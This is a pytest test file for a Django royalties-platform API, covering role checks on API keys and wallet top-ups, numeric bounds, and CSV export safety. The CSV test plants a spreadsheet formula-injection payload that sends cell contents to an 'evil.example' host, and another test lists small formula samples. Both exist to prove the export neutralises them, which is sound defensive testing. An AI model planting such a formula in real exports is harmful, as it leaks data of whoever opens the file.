"""Roles hold at the API, out-of-range numbers answer 400, query parameters are strict, CSV is inert."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings

from accounts.models import ApiKey
from catalog.models import Offer
from common.csvsafe import spreadsheet_safe
from common.money import Money
from royalties.selectors import prepaid_available
from studio.services import wallet_fund, wallet_get_or_create
from tests import factories

pytestmark = pytest.mark.django_db

HUGE = 2**63


# Roles (finding 6) ---------------------------------------------------------------------------------------


def test_a_fan_cannot_mint_a_vendor_key_on_its_studio_wallet_organisation(as_user) -> None:
    # given a fan whose studio wallet made a personal organisation
    fan = factories.fan()
    wallet = wallet_get_or_create(user=fan)
    keys_before = ApiKey.objects.count()

    # when the fan asks for an access+outputs key on it
    response = as_user(fan).post(
        "/api/v1/api-keys",
        {"name": "x", "scopes": ["access", "outputs"], "organisation": wallet.organisation.pk},
        format="json",
    )

    # then it is refused and no key is made
    assert response.status_code == 403 and response.json()["code"] == "vendor_role_required"
    assert ApiKey.objects.count() == keys_before


def test_a_vendor_scoped_key_held_by_a_fan_reaches_no_vendor_operation(with_key) -> None:
    # given a fan holding an access+outputs key on its wallet (as one minted before roles were checked)
    from accounts.services import api_key_create

    fan = factories.fan()
    wallet = wallet_fund(user=fan, amount=Money(1_000, "USD"), external_ref="w")
    secret = api_key_create(
        user=fan,
        name="old",
        scopes=["access", "outputs"],
        organisation=wallet.organisation,
        platform_use=True,
    ).secret
    creator = factories.creator()
    work = factories.work(creator)
    factories.offer(creator, work, uses={"ai-train": 5})
    client = with_key(secret)

    # when it uses the vendor operations
    access = client.post(
        "/api/v1/access",
        {"work": work.pk, "use": "ai-train", "territory": "US"},
        format="json",
        HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4()),
    )
    output = client.post(
        "/api/v1/outputs", {"file": SimpleUploadedFile("o.png", factories.png_bytes())}, format="multipart"
    )

    # then both are refused and nothing is charged
    assert (access.status_code, output.status_code) == (403, 403)
    assert prepaid_available(organisation=wallet.organisation, currency="USD") == 1_000


@override_settings(DEBUG=True, STUDIO_DEV_TOP_UP=True)
def test_the_development_top_up_is_for_staff_sessions_only(as_user, with_key) -> None:
    fan, creator = factories.fan(), factories.creator()
    staff = factories.creator()
    staff.is_staff = True
    staff.save(update_fields=["is_staff"])
    body = {"amount_minor": 500, "currency": "USD"}

    by_fan = as_user(fan).post("/api/v1/wallet", body, format="json")
    by_key = with_key(factories.key(creator, "read", "write")).post("/api/v1/wallet", body, format="json")
    by_staff = as_user(staff).post("/api/v1/wallet", body, format="json")

    assert (by_fan.status_code, by_key.status_code, by_staff.status_code) == (403, 403, 200)
    assert by_staff.json()["available_minor"] == 500
    assert as_user(fan).get("/api/v1/wallet").json()["available_minor"] == 0


def test_the_development_top_up_is_closed_without_debug_even_for_staff(as_user) -> None:
    staff = factories.creator()
    staff.is_staff = True
    staff.save(update_fields=["is_staff"])
    response = as_user(staff).post("/api/v1/wallet", {"amount_minor": 500}, format="json")
    assert response.status_code == 403 and response.json()["code"] == "top_up_unavailable"


# Bounds (finding 7) --------------------------------------------------------------------------------------


def test_numbers_past_64_bits_and_bad_codes_answer_400_and_change_nothing(as_user, with_key) -> None:
    creator, vendor = factories.creator(), factories.vendor()
    work = factories.work(creator)
    factories.offer(creator, work, uses={"ai-train": 5})
    offers_before = Offer.objects.count()
    vendor_client = with_key(factories.key(vendor, "access", "read"))
    staff = factories.creator()
    staff.is_staff = True
    staff.save(update_fields=["is_staff"])

    answers = {
        "access work id": vendor_client.post(
            "/api/v1/access",
            {"work": HUGE, "use": "ai-train", "territory": "US"},
            format="json",
            HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4()),
        ),
        "offer price": as_user(creator).post(
            f"/api/v1/works/{work.pk}/offers", {"currency": "USD", "uses": {"ai-train": HUGE}}, format="json"
        ),
        "licence fee": as_user(creator).post(
            f"/api/v1/works/{work.pk}/offers",
            {"currency": "USD", "uses": {"ai-train": 1}, "licence_fee_minor": HUGE},
            format="json",
        ),
        "offer currency": as_user(creator).post(
            f"/api/v1/works/{work.pk}/offers", {"currency": 123, "uses": {"ai-train": 1}}, format="json"
        ),
        "id in the path": as_user(creator).get(f"/api/v1/works/{HUGE}"),
        "page_size=null": as_user(creator).get("/api/v1/works?page_size=null"),
        "page_size=0": as_user(creator).get("/api/v1/works?page_size=0"),
        "unknown parameter": as_user(creator).get("/api/v1/works?stauts=draft"),
        "until=": vendor_client.get("/api/v1/usage?until="),
    }
    with override_settings(DEBUG=True, STUDIO_DEV_TOP_UP=True):
        answers["wallet currency 0"] = as_user(staff).post(
            "/api/v1/wallet", {"amount_minor": 5, "currency": 0}, format="json"
        )

    statuses = {name: response.status_code for name, response in answers.items()}
    assert statuses == {name: 404 if name == "id in the path" else 400 for name in answers}
    assert {r["Content-Type"] for r in answers.values()} == {"application/problem+json"}
    assert Offer.objects.count() == offers_before
    assert as_user(staff).get("/api/v1/wallet").json()["available_minor"] == 0


def test_the_schema_states_the_bounds_the_server_enforces(api) -> None:
    schema = api.get("/api/schema/?format=json").json()["components"]["schemas"]
    access = schema["AccessInputRequest"]["properties"]["work"]
    offer = schema["OfferInputRequest"]["properties"]
    assert (access["minimum"], access["maximum"]) == (1, 2**63 - 1)
    assert offer["uses"]["additionalProperties"]["maximum"] == 10**14
    assert offer["licence_fee_minor"]["maximum"] == 10**14
    assert offer["currency"]["pattern"] == "^[A-Za-z]{3}$"


# CSV (finding 8) -----------------------------------------------------------------------------------------


def test_a_formula_in_a_work_title_reaches_a_co_owners_statement_csv_as_inert_text(as_user) -> None:
    # given a work whose owner titled it with a spreadsheet formula, and a co-owner paid from it
    from catalog.models import Work
    from royalties.revenue import access_fee_record
    from royalties.settlement import revenue_settle
    from royalties.statements import statement_generate
    from tests.royalties.builders import funded_vendor, three_level_chain

    chain = three_level_chain()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    Work.objects.filter(pk=chain.a.pk).update(title=formula)
    access_fee_record(
        organisation=funded_vendor(), offer=chain.offer_d, amount=Money(10_000, "USD"), access_key="k1"
    )
    revenue_settle()
    from common import clock

    statement = statement_generate(
        user=chain.bob, currency="USD", period_start=chain.bob.date_joined, period_end=clock.now()
    )

    # when the co-owner downloads the CSV
    download = as_user(chain.bob).get(f"/api/v1/statements/csv?id={statement.pk}")

    # then the title is text a spreadsheet shows, not a formula it runs; amounts stay numbers
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    titles = [
        row[1]
        for row in rows[rows.index(["work", "work_title", "source", "kind", "amount_minor", "amount"]) + 1 :]
    ]
    assert titles and set(titles) == {"'" + formula}
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-5.00", "-5.00"),
        ("Harbour", "Harbour"),
        (-500, -500),
    ],
)
def test_spreadsheet_safe_neutralises_formulas_and_keeps_plain_numbers(cell, written) -> None:
    assert spreadsheet_safe(cell) == written
